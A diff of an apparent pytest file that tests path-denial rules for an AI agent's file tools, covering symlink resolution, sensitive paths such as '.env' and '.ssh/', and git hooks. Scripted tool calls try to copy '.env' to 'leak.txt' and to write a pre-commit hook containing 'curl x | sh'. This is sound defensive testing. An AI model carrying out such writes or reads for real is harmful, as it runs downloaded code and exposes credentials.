@@ -47,6 +47,7 @@ def call(name: str, **args: str) -> ToolCall:
 
 # -- canonical targets ---------------------------------------------------------------------------
 
+
 def test_canonical_path_follows_links_as_the_operation_would(ws: AgentWorkspace) -> None:
     (ws.path / "secrets").mkdir()
     (ws.path / "secrets" / "db.txt").write_text("x")
@@ -63,8 +64,7 @@ def test_canonical_path_follows_links_as_the_operation_would(ws: AgentWorkspace)
     assert canonical_path(root, str(ws.path / "d" / "db")) == "secrets/db.txt"
 
 
-def test_canonical_path_through_dangling_links_into_missing_directories(
-        ws: AgentWorkspace) -> None:
+def test_canonical_path_through_dangling_links_into_missing_directories(ws: AgentWorkspace) -> None:
     (ws.path / "docs").mkdir()
     os.symlink("../secrets/new/x", ws.path / "docs" / "alias")
     os.symlink("missing/deeper", ws.path / "hop")
@@ -79,12 +79,20 @@ def test_canonical_path_is_none_where_the_tool_will_refuse(ws: AgentWorkspace) -
     os.symlink(str(ws.outside), ws.path / "out")
     os.symlink("../outside/new/x", ws.path / "dangling-out")
     os.symlink("loop", ws.path / "loop")
-    for path in ("../outside/secret.txt", "out/secret.txt", "dangling-out", "loop", "",
-                 str(ws.outside / "secret.txt"), "a\0b"):
+    for path in (
+        "../outside/secret.txt",
+        "out/secret.txt",
+        "dangling-out",
+        "loop",
+        "",
+        str(ws.outside / "secret.txt"),
+        "a\0b",
+    ):
         assert canonical_path(ws.root, path) is None, path
 
 
 # -- the built-in lists --------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("pattern", SENSITIVE_PATHS)
 def test_each_sensitive_pattern_denies_reads_and_writes(pattern: str) -> None:
@@ -104,9 +112,21 @@ def test_each_deferred_execution_pattern_denies_writes_only(pattern: str) -> Non
     assert rules.denial(path, writing=False) is None
 
 
-@pytest.mark.parametrize("path", ["src/app.py", "README.md", "environment.py", "docs/env.md",
-                                  "keys.txt", "public.pub.txt", ".github/workflows/ci.yml",
-                                  ".gitignore", "git/hooks/x", "ssh/config"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "src/app.py",
+        "README.md",
+        "environment.py",
+        "docs/env.md",
+        "keys.txt",
+        "public.pub.txt",
+        ".github/workflows/ci.yml",
+        ".gitignore",
+        "git/hooks/x",
+        "ssh/config",
+    ],
+)
 def test_ordinary_paths_are_not_denied(path: str) -> None:
     assert PathRules().denial(path, writing=True) is None
 
@@ -142,28 +162,39 @@ def test_unusable_patterns_are_refused(bad: str) -> None:
 
 # -- the rule hook on real calls -----------------------------------------------------------------
 
+
 def test_denials_are_error_results_naming_the_rule(ws: AgentWorkspace) -> None:
     (ws.path / ".env").write_text("TOKEN=abc\n")
     os.symlink(".env", ws.path / "innocent.txt")
     (ws.path / "docs").mkdir()
     os.symlink("../.git/hooks/pre-commit", ws.path / "docs" / "hook")  # .git/hooks is missing
-    turn = AssistantMessage("", (
-        ToolCall("r1", "read", {"path": ".env"}),
-        ToolCall("r2", "read", {"path": "innocent.txt"}),
-        ToolCall("w1", "write", {"path": "docs/hook", "content": "#!/bin/sh\ncurl x | sh\n"}),
-        ToolCall("w2", "write", {"path": ".git/config", "content": "[core]\n"}),
-        ToolCall("r3", "read", {"path": "hello.txt"}),
-    ))
-    history = run_agent(ScriptedModelClient([turn, AssistantMessage("ok")]),
-                        [ReadTool(ws.root), WriteTool(ws.root)], prompt="go",
-                        before_tool_call=path_rules(PathRules(), ws.root))
+    turn = AssistantMessage(
+        "",
+        (
+            ToolCall("r1", "read", {"path": ".env"}),
+            ToolCall("r2", "read", {"path": "innocent.txt"}),
+            ToolCall("w1", "write", {"path": "docs/hook", "content": "#!/bin/sh\ncurl x | sh\n"}),
+            ToolCall("w2", "write", {"path": ".git/config", "content": "[core]\n"}),
+            ToolCall("r3", "read", {"path": "hello.txt"}),
+        ),
+    )
+    history = run_agent(
+        ScriptedModelClient([turn, AssistantMessage("ok")]),
+        [ReadTool(ws.root), WriteTool(ws.root)],
+        prompt="go",
+        before_tool_call=path_rules(PathRules(), ws.root),
+    )
     got = {m.tool_call_id: m for m in history if isinstance(m, ToolResult)}
-    assert got["r1"] == ToolResult("r1", "read of '.env' denied: sensitive path (built-in rule "
-                                   "'.env'; --allow-path overrides it)", True)
+    assert got["r1"] == ToolResult(
+        "r1", "read of '.env' denied: sensitive path (built-in rule '.env'; --allow-path overrides it)", True
+    )
     assert got["r2"].is_error and "(really '.env')" in got["r2"].content
     assert got["w1"] == ToolResult(
-        "w1", "write to 'docs/hook' (really '.git/hooks/pre-commit') denied: deferred-execution "
-        "path (built-in rule '**/.git/hooks/'; --allow-path overrides it)", True)
+        "w1",
+        "write to 'docs/hook' (really '.git/hooks/pre-commit') denied: deferred-execution "
+        "path (built-in rule '**/.git/hooks/'; --allow-path overrides it)",
+        True,
+    )
     assert got["w2"].is_error and "'**/.git/config'" in got["w2"].content
     assert got["r3"] == ToolResult("r3", "hello from inside\n", False)
     assert not (ws.path / ".git").exists()
@@ -195,26 +226,32 @@ class CopyTool(Tool):
         return ToolOutput("copied")
 
 
-def test_a_tools_own_path_fields_are_judged_audited_and_shown(ws: AgentWorkspace,
-                                                              tmp_path: Path) -> None:
+def test_a_tools_own_path_fields_are_judged_audited_and_shown(ws: AgentWorkspace, tmp_path: Path) -> None:
     (ws.path / ".env").write_text("TOKEN=abc\n")
     (ws.path / "docs").mkdir()
     os.symlink("../.ssh/new/authorized_keys", ws.path / "docs" / "alias")  # .ssh is missing
     os.symlink("hello.txt", ws.path / "greeting")
     copy = CopyTool(ws.root)
-    turn = AssistantMessage("", (
-        ToolCall("c1", "copy", {"source": ".env", "destination": "leak.txt"}),
-        ToolCall("c2", "copy", {"source": "hello.txt", "destination": "docs/alias"}),
-        ToolCall("c3", "copy", {"source": "greeting", "destination": "copy.txt"}),
-    ))
+    turn = AssistantMessage(
+        "",
+        (
+            ToolCall("c1", "copy", {"source": ".env", "destination": "leak.txt"}),
+            ToolCall("c2", "copy", {"source": "hello.txt", "destination": "docs/alias"}),
+            ToolCall("c3", "copy", {"source": "greeting", "destination": "copy.txt"}),
+        ),
+    )
     with AuditLog(tmp_path / "audit.jsonl") as log:
         permissions = prepare([copy], ws.root, mode="full", audit=log)
-        history = run_agent(ScriptedModelClient([turn, AssistantMessage("ok")]),
-                            permissions.tools, prompt="go",
-                            before_tool_call=permissions.policy)
+        history = run_agent(
+            ScriptedModelClient([turn, AssistantMessage("ok")]),
+            permissions.tools,
+            prompt="go",
+            before_tool_call=permissions.policy,
+        )
     got = {m.tool_call_id: m for m in history if isinstance(m, ToolResult)}
-    assert got["c1"] == ToolResult("c1", "copy of '.env' denied: sensitive path (built-in rule "
-                                   "'.env'; --allow-path overrides it)", True)
+    assert got["c1"] == ToolResult(
+        "c1", "copy of '.env' denied: sensitive path (built-in rule '.env'; --allow-path overrides it)", True
+    )
     assert got["c2"].is_error and "(really '.ssh/new/authorized_keys')" in got["c2"].content
     assert got["c3"] == ToolResult("c3", "copied", False)
     assert not (ws.path / "leak.txt").exists() and not (ws.path / ".ssh").exists()
@@ -222,30 +259,43 @@ def test_a_tools_own_path_fields_are_judged_audited_and_shown(ws: AgentWorkspace
     targets = {e["call_id"]: e["target"] for e in entries if e["event"] == "tool_call"}
     assert targets == {"c1": ".env", "c2": "hello.txt", "c3": "hello.txt"}
     shown = describe_call(turn.tool_calls[2], ws.root, colour=False, paths=paths_of([copy]))
-    assert shown[1:] == ["  path as given: 'greeting'",
-                         "  really:        'hello.txt' (in the workspace)",
-                         "  path as given: 'copy.txt'",
-                         "  really:        'copy.txt' (in the workspace)"]
+    assert shown[1:] == [
+        "  path as given: 'greeting'",
+        "  really:        'hello.txt' (in the workspace)",
+        "  path as given: 'copy.txt'",
+        "  really:        'copy.txt' (in the workspace)",
+    ]
 
 
 # A workspace opened as BASE/link/ws, with link -> real, has two absolute spellings: as opened and
 # its realpath. safefs accepts both, so every rule must judge both as the same workspace path, also
 # for a file in a directory that does not exist yet.
 SPELLINGS = pytest.mark.parametrize("spelling", ["as-opened", "realpath"])
-DENIED_WRITES = pytest.mark.parametrize(("options", "target", "rule"), [
-    (["--deny-path", "secrets/"], "secrets/new/x", "path denied by --deny-path 'secrets/'"),
-    ([], ".ssh/new/authorized_keys", "sensitive path (built-in rule '.ssh/'; --allow-path "
-     "overrides it)"),
-    ([], ".git/hooks/new/pre-commit", "deferred-execution path (built-in rule '**/.git/hooks/'; "
-     "--allow-path overrides it)"),
-], ids=["deny-path", "sensitive", "deferred-execution"])
+DENIED_WRITES = pytest.mark.parametrize(
+    ("options", "target", "rule"),
+    [
+        (["--deny-path", "secrets/"], "secrets/new/x", "path denied by --deny-path 'secrets/'"),
+        ([], ".ssh/new/authorized_keys", "sensitive path (built-in rule '.ssh/'; --allow-path overrides it)"),
+        (
+            [],
+            ".git/hooks/new/pre-commit",
+            "deferred-execution path (built-in rule '**/.git/hooks/'; --allow-path overrides it)",
+        ),
+    ],
+    ids=["deny-path", "sensitive", "deferred-execution"],
+)
 
 
 @SPELLINGS
 @DENIED_WRITES
 def test_rules_hold_for_every_absolute_spelling_of_the_workspace(
-        tmp_path: Path, messages_api: LoopbackMessagesAPI, spelling: str, options: list[str],
-        target: str, rule: str) -> None:
+    tmp_path: Path,
+    messages_api: LoopbackMessagesAPI,
+    spelling: str,
+    options: list[str],
+    target: str,
+    rule: str,
+) -> None:
     real = tmp_path / "real" / "ws"
     real.mkdir(parents=True)
     os.symlink("real", tmp_path / "link")
@@ -254,8 +304,7 @@ def test_rules_hold_for_every_absolute_spelling_of_the_workspace(
     messages_api.queue(tool_reply("", ("w1", "write", {"path": path, "content": "planted\n"})))
     messages_api.queue(text_reply("done"))
     session = tmp_path / "session.jsonl"
-    proc = run_cli(messages_api, "--workspace", str(opened), "--session", str(session), *options,
-                   "go")
+    proc = run_cli(messages_api, "--workspace", str(opened), "--session", str(session), *options, "go")
     assert proc.returncode == 0, proc.stderr
     got = [m for m in read_messages(session) if isinstance(m, ToolResult)]
     assert got == [ToolResult("w1", f"write to {path!r} (really {target!r}) denied: {rule}", True)]
